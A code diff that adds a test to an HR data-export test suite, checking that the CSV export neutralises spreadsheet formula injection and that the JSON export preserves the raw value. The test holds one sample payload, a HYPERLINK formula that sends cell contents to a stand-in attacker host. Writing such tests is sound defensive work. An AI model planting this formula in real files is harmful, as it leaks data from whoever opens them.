@@ -348,6 +348,28 @@ describe('SIASN export of a closed quarter (kinerjaperiodik/save)', () => {
     expect(annual.errors![0]!.extensions.field).toBe('kind');
   });
 
+  it('writes formula-like text as text in CSV (a leading quote, as SIASN files do) and exactly in JSON lines', async () => {
+    const { employees } = await run<{ employees: { nodes: { id: string; name: string }[] } }>(
+      `{ employees(first: 10) { nodes { id name } } }`,
+    );
+    const maria = employees.nodes.find((e) => e.name === 'Maria Ulfah')!.id;
+    const decree = '=HYPERLINK("http://evil.example/?d="&A1,"800/1")';
+    await run(`mutation ($input: GrantRewardInput!) { grantReward(input: $input) { reward { id } } }`, {
+      input: {
+        employeeId: maria,
+        rewardTypeCode: 'PIAGAM_PENGHARGAAN',
+        grantedOn: '2026-03-27',
+        decreeNumber: decree,
+        reason: 'Inovasi layanan',
+      },
+    });
+    const csv = await exportOf('PENGHARGAAN', 'CSV');
+    expect(csv.content).toContain(`,"'=HYPERLINK(""http://evil.example/?d=""&A1,""800/1"")",27-03-2026,2026`);
+    for (const line of csv.content.trim().split('\r\n')) expect(line.split(',').every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
+    const lines = await exportOf('PENGHARGAAN');
+    expect(lines.records.map((r) => r.body.skNomor)).toContain(decree);
+  });
+
   it('is for HR and administrators of the agency', async () => {
     const employee = (await actor(app, [Role.EMPLOYEE], agency.agency)).token;
     expect(errorCode(await attempt(EXPORT, { periodId: quarter, kind: 'KINERJA_PERIODIK' }, employee))).toBe('FORBIDDEN');
